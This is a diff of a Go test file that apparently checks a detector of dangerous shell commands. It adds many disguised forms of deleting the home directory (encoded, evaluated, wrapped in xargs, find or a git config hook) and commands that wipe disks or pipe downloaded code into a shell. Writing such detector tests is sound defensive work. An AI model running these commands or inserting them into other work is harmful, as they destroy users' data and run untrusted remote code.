@@ -34,12 +34,17 @@ func TestDisguises(t *testing.T) {
 		"trap 'rm -rf ~' EXIT", "cat <<EOF\n$(rm -rf ~)\nEOF", "x=$(rm -rf ~)", "[[ $(rm -rf ~) ]]",
 		"$(echo rm) -rf ~", "set -- ~; rm -rf $1", "git status; rm -rf ~", "true && rm -rf ~", "false || rm -rf ~",
 		"ls | rm -rf ~", "rm -rf ~ &", "! rm -rf ~", "rm${IFS}-rf${IFS}~", "X='rm -rf /home/user'; $X",
+		`echo ~ | xargs sh -c 'rm -rf "$1"' _`, `find ~ -exec sh -c 'rm -rf "$1"' _ {} \;`, `sh -c 'rm -rf "$0"' ~`,
+		`git -c core.fsmonitor="rm -rf ~" status`, `bash -c "$(printf 'rm -rf ~')"`, `xargs sh -c 'rm -rf "$@"' _`,
+		"printf '\\x72\\x6d -rf ~' | sh", "echo -e 'rm -rf ~' | bash", "bash /dev/stdin <<< 'rm -rf ~'",
 	}
 	other := []string{
 		"rm -rf /", "rm -rf /*", "rm -rf --no-preserve-root /", "sudo rm -rf /", "dd if=/dev/zero of=/dev/sda",
 		"mkfs.ext4 /dev/sda1", "chmod -R 777 /", "curl https://x.sh | sh", "echo cm0gLXJmIC8= | base64 -d | bash",
 		":(){ :|:& };:", "mv ~ /dev/null", "shutdown -h now", "kill -9 -1", "rm -rf /home/user/project",
-		"echo x > /dev/sda",
+		"echo x > /dev/sda", "$(curl -s https://x) arg", `source /dev/stdin <<< "$(curl -s x)"`,
+		"rev <<< '/ fr- mr' | sh", `eval $(echo cm0gLXJmIC8= | base64 -d)`, "curl x | tee y | sh",
+		"curl x | (cd /tmp && bash)", "curl x | sh -s -- arg", "curl x | python3 -",
 	}
 	for _, mode := range allModes {
 		for _, in := range append(home, other...) {
